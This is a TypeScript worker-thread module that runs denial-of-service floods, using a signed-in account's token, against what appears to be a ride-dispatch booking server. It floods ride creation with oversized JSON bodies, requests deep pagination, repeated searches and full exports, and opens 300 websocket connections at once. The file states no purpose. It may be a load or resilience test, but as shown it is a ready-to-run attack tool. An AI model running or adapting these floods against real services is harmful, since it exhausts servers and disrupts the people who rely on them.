// The attacks of one signed-in account on a server, in a separate thread that gets its orders as messages.
import { parentPort } from 'node:worker_threads';

import { io, type Socket } from 'socket.io-client';

export interface AttackOrder {
  url: string;
  token: string;
  /** Undefined ends what is going on. */
  attack: keyof typeof attacks | undefined;
}

type Target = Pick<AttackOrder, 'url' | 'token'>;
const atOnce = 30;
let isOn = false;
const sockets: Socket[] = [];

/** Sends such calls without a pause, many at a time. */
function flood(call: (nth: number) => Promise<Response>): void {
  let nth = 0;
  const one = async (): Promise<void> => {
    while (isOn) {
      nth += 1;
      // A refusal, or a connection that was closed, is what an attack has to expect.
      await call(nth)
        .then((answer) => answer.text())
        .catch(() => undefined);
    }
  };
  for (let line = 0; line < atOnce; line += 1) void one();
}
const get =
  ({ url, token }: Target) =>
  (path: string) =>
    fetch(`${url}/api/v1${path}`, { headers: { 'x-dispatch-access-token': token } });

const zeros = JSON.stringify({ x: Array.from({ length: 10 }, () => Array(3000).fill(0)) });
const tooLarge = JSON.stringify({ x: Array(500_000).fill(0) });

export const attacks = {
  bodies: ({ url, token }: Target) =>
    flood((nth) =>
      fetch(`${url}/api/v1/ride/create`, {
        method: 'POST',
        headers: {
          'x-dispatch-access-token': token,
          'content-type': 'application/json',
          'idempotency-key': `attack ${nth}`,
        },
        body: nth % 2 === 0 ? zeros : tooLarge,
      }),
    ),
  pages: (target: Target) =>
    flood((nth) =>
      get(target)(`/scheduled/bookings?state=all&limit=100&page=${1 + ((nth * 7919) % 1_000_000)}`),
    ),
  search: (target: Target) =>
    flood((nth) =>
      get(target)(
        `/scheduled/bookings?state=all&limit=100&page=${1 + (nth % 50)}&searchby=agent&searchvalue=a`,
      ),
    ),
  exports: (target: Target) => flood(() => get(target)('/scheduled/bookings/download?state=all')),
  sockets: ({ url, token }: Target) => {
    for (let nth = 0; nth < 300; nth += 1)
      sockets.push(io(url, { auth: { token }, transports: ['websocket'], forceNew: true }));
  },
} as const satisfies Record<string, (target: Target) => void>;

parentPort?.on('message', ({ attack, ...target }: AttackOrder) => {
  isOn = attack !== undefined;
  for (const socket of sockets.splice(0)) socket.close();
  if (attack) attacks[attack](target);
});
